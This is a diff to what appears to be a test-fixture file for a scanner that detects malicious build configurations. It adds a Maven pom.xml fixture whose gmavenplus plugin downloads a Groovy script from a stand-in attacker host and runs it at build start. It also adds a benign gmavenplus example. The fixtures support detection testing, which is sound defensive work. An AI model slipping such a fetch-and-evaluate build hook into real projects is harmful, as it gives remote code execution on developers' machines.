@@ -2318,6 +2318,21 @@ ATTACKS_9: dict[str, tuple[dict[str, Any], str, str]] = {
         "OWS-TOOL-001",
         "high",
     ),
+    "maven-gmavenplus-script": (
+        {
+            "pom.xml": _POM.format(
+                plugin="    <plugin>\n      <groupId>org.codehaus.gmavenplus</groupId>\n"
+                "      <artifactId>gmavenplus-plugin</artifactId>\n      <executions><execution>\n"
+                "        <phase>initialize</phase>\n        <goals><goal>execute</goal></goals>\n"
+                "        <configuration><scripts><script><![CDATA[\n"
+                "          def body = new URL('https://evil.example/s.groovy').text\n"
+                "          new GroovyShell().evaluate(body)\n"
+                "        ]]></script></scripts></configuration>\n      </execution></executions>\n    </plugin>\n"
+            )
+        },
+        "OWS-TOOL-001",
+        "high",
+    ),
     "maven-jvm-config-javaagent": (
         {".mvn/jvm.config": "-Xmx2g -javaagent:.mvn/agent.jar\n", ".mvn/agent.jar": b"PK\x03\x04"},
         "OWS-TOOL-001",
@@ -2541,6 +2556,17 @@ BENIGN_9: dict[str, dict[str, Any]] = {
         ".mvn/jvm.config": "-Xmx2g --add-opens java.base/java.lang=ALL-UNNAMED\n",
         ".mvn/extensions.xml": "<extensions><extension><groupId>kr.motd.maven</groupId>"
         "<artifactId>os-maven-plugin</artifactId><version>1.7.1</version></extension></extensions>\n",
+    },
+    "maven-gmavenplus-properties": {
+        "pom.xml": _POM.format(
+            plugin="    <plugin>\n      <groupId>org.codehaus.gmavenplus</groupId>\n"
+            "      <artifactId>gmavenplus-plugin</artifactId>\n      <executions><execution>\n"
+            "        <phase>initialize</phase>\n        <goals><goal>execute</goal></goals>\n"
+            "        <configuration><scripts><script><![CDATA[\n"
+            "          project.properties['build.year'] = new Date().format('yyyy')\n"
+            "          def sha = 'git rev-parse --short HEAD'.execute().text.trim()\n"
+            "        ]]></script></scripts></configuration>\n      </execution></executions>\n    </plugin>\n"
+        )
     },
     "sublime-pyright-and-cargo": {
         "app.sublime-project": j(
